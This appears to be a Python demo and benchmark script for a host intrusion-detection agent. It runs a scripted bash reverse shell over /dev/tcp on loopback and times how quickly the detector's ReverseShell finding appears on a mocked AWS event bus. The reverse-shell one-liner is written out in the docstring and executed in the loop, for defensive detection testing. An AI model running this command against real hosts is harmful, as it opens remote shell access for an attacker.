"""make demo-live: the real agent on this host feeds the offline stack; a reverse shell on
loopback becomes an Execution:Runtime/ReverseShell finding on FindingsBus within seconds.

    python benchmarks/agent_demo_live.py [--port N] [--timeout 30]

Root only. Steps: start the offline stack (local.stack: moto on 127.0.0.1, template.yaml
deployed), tap FindingsBus with an SQS queue (as `make demo` does), start vigil-agent with a
config written from the stack outputs (stream, region, endpoint), then run a scripted reverse
shell entirely on loopback: a listener on 127.0.0.1 and
    bash -c 'bash -i >& /dev/tcp/127.0.0.1/<port> 0>&1'
and wait for the finding on the bus. Prints the time from the shell's exec to the bus event, for
``--shells`` shells one after the other (each from its own copy of bash, so each is a new finding
published at once), then their p50 and p95.
"""

from __future__ import annotations

import argparse
import math
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path[:0] = [str(ROOT), str(ROOT / "layers/core"), str(ROOT / "layers/aws"), str(ROOT / "agent")]

WANT = "Execution:Runtime/ReverseShell"


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, default=0, help="moto port (default: the stack's default)")
    ap.add_argument("--timeout", type=float, default=30.0)
    ap.add_argument(
        "--shells", type=int, default=10, help="reverse shells, one after the other (p50/p95 over them)"
    )
    ap.add_argument("--gap", type=float, default=1.5, help="seconds between two shells")
    a = ap.parse_args()
    if os.geteuid() != 0:
        print("demo-live: needs root (the agent reads audit netlink)", file=sys.stderr)
        return 2

    from rich.console import Console

    from local.demo import drain, tap_bus
    from local.stack import started

    console = Console()
    kwargs = {"port": a.port} if a.port else {}
    with started(console, **kwargs) as stack:
        assert stack.info is not None
        out = stack.info.outputs
        tap_url = tap_bus(stack, out["FindingsBusName"])
        work = Path(tempfile.mkdtemp(prefix="vigil-demo-live-"))
        cfg = work / "agent.toml"
        # no IMDS here: the stack's test authority (what IngestFunction trusts) signs the agent's
        # identity document, which the agent reads from files instead of IMDS
        from vigil import wire

        doc, sig = stack.identity.agent_files(
            work / "identity",
            wire.Host(
                instance_id="i-0dec0000000000001", account_id=stack.info.account_id, region=stack.info.region
            ),
        )
        cfg.write_text(f"""# written by demo-live from local/.state/stack.json outputs
[identity]
document_file = "{doc}"
signature_file = "{sig}"
[agent]
instance_id = "i-0dec0000000000001"
account_id = "{stack.info.account_id}"
region = "{stack.info.region}"
state_dir = "{work / "state"}"
heartbeat_s = 10.0
audit_key = "vigil-demo-live"
[kinesis]
stream = "{out["TelemetryStreamName"]}"
region = "{stack.info.region}"
endpoint_url = "{stack.info.endpoint_url}"
""")
        env = dict(
            os.environ,
            PYTHONPATH=f"{ROOT / 'layers/core'}:{ROOT / 'agent'}",
            AWS_ACCESS_KEY_ID="testing",
            AWS_SECRET_ACCESS_KEY="testing",
        )
        log = open(work / "agent.log", "wb")  # noqa: SIM115 (lives as long as the agent)
        agent = subprocess.Popen(
            [sys.executable, "-m", "vigil_agent.main", "--config", str(cfg)],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=log,
        )
        shell = None
        srv = socket.socket()
        try:
            if not _agent_ready(stack, out["CoverageTableName"], "i-0dec0000000000001", agent, a.timeout):
                console.print((work / "agent.log").read_text()[-3000:])
                return 1
            console.rule("[bold]vigil-agent running[/] (config from the stack outputs)")
            srv.bind(("127.0.0.1", 0))
            srv.listen(1)
            port = srv.getsockname()[1]
            took: list[float] = []
            for n in range(a.shells):
                # each shell from its own copy of bash: its own finding (one per executable), so
                # every one is a new finding, published at once, not an update of the first
                bash = work / f"shell-{n}" / "bash"
                bash.parent.mkdir()
                shutil.copy2("/bin/bash", bash)
                console.print(
                    f"attacker listener on 127.0.0.1:{port}; victim runs: "
                    f"{bash} -c '{bash} -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"
                )
                t0 = time.monotonic()
                shell = subprocess.Popen(
                    [str(bash), "-c", f"{bash} -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
                    stdin=subprocess.DEVNULL,
                    stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL,
                )
                conn, _ = srv.accept()
                conn.sendall(b"id\n")
                found = None
                while time.monotonic() - t0 < a.timeout and found is None:
                    for ev in drain(stack, tap_url):
                        d = ev.get("detail", {})
                        path = d.get("service", {}).get("runtimeDetails", {}).get("process", {})
                        if d.get("type") == WANT and path.get("executablePath") == str(bash):
                            found = ev
                            break
                    time.sleep(0.05)
                took.append(time.monotonic() - t0)
                conn.sendall(b"exit\n")
                conn.close()
                shell.wait(timeout=10)
                if found is None:
                    console.print(f"[red]no {WANT} finding on the bus after {a.timeout:.0f} s[/]")
                    console.print((work / "agent.log").read_text()[-3000:])
                    return 1
                if n == 0:
                    d = found["detail"]
                    proc = d.get("service", {}).get("runtimeDetails", {}).get("process", {})
                    console.rule("[bold green]finding on FindingsBus")
                    console.print(f"type      {d['type']}")
                    console.print(f"severity  {d['severity']}   title: {d.get('title', '')}")
                    iid = d.get("resource", {}).get("instanceDetails", {}).get("instanceId", "")
                    console.print(f"instance  {iid}")
                    console.print(
                        f"process   {proc.get('name', '')} pid {proc.get('pid', '')} {proc.get('executablePath', '')}"
                    )
                console.print(f"[bold]shell exec -> finding on the bus: {took[-1]:.2f} s[/]")
                time.sleep(a.gap)
            ranked = sorted(took)
            p50 = ranked[(len(ranked) - 1) // 2]
            p95 = ranked[min(len(ranked) - 1, math.ceil(0.95 * len(ranked)) - 1)]
            console.print(
                f"shell exec -> finding on the bus, {len(took)} shells: p50 {p50:.2f} s, p95 {p95:.2f} s, "
                f"max {ranked[-1]:.2f} s (each: {', '.join(f'{t:.2f}' for t in took)})"
            )
            return 0
        finally:
            if shell is not None and shell.poll() is None:
                shell.kill()
            srv.close()
            agent.terminate()
            try:
                agent.wait(timeout=20)
            except subprocess.TimeoutExpired:
                agent.kill()


def _agent_ready(stack, table: str, instance: str, agent: subprocess.Popen, timeout: float) -> bool:  # type: ignore[no-untyped-def,type-arg]
    """Wait until the agent's first heartbeat is on its coverage row and the stack has taken in its
    start-up batches (the /proc scan): the shells measure detection latency on a running agent, not
    the agent's start (a fixed 2.5 s sleep used to start the first shell during the start-up)."""
    ddb = stack.client("dynamodb")
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if agent.poll() is not None:
            print(f"demo-live: the agent exited with {agent.returncode}", file=sys.stderr)
            return False
        if ddb.get_item(TableName=table, Key={"instanceId": {"S": instance}}).get("Item"):
            stack.pollers.wait_idle(timeout=timeout)
            return True
        time.sleep(0.2)
    print(f"demo-live: no heartbeat from the agent within {timeout:.0f} s", file=sys.stderr)
    return False


if __name__ == "__main__":
    sys.exit(main())
